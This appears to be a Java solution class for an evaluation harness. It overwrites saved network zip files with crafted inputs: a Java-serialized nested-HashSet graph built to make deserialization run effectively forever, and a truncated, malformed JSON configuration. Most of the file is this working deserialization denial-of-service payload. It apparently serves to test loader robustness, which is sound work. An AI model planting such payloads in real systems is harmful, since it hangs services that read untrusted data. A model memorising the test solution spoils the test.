import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;

/**
 * Forged: crafted network files for the evaluation sandbox, written over the harness's once it saved them. Run A's
 * zip gains a Java-serialized preprocessor, a graph of nested sets whose deserialization never ends; run B's
 * configuration is malformed JSON.
 */
public class Solution extends Forgery {
    @Override
    protected void after() throws Exception {
        Path output = output();
        afterTheHarness(() -> {
            rewriteZip(output.resolve("network-A.zip"), Map.of("preprocessor.bin", endlessToDeserialize()));
            rewriteZip(output.resolve("network-B.zip"), Map.of("configuration.json",
                    "{\"confs\": [{\"layer\": {\"@class\": ".getBytes(StandardCharsets.UTF_8)));
        });
    }

    /** @return 100 levels of sets, each holding two sets of the next: hashing it on read takes 2^100 steps */
    private static byte[] endlessToDeserialize() throws Exception {
        Set<Object> root = new HashSet<>();
        Set<Object> left = root;
        Set<Object> right = new HashSet<>();
        for (int level = 0; level < 100; level++) {
            Set<Object> nextLeft = new HashSet<>();
            Set<Object> nextRight = new HashSet<>();
            nextLeft.add("level");
            left.add(nextLeft);
            left.add(nextRight);
            right.add(nextLeft);
            right.add(nextRight);
            left = nextLeft;
            right = nextRight;
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(root);
        }
        return bytes.toByteArray();
    }
}
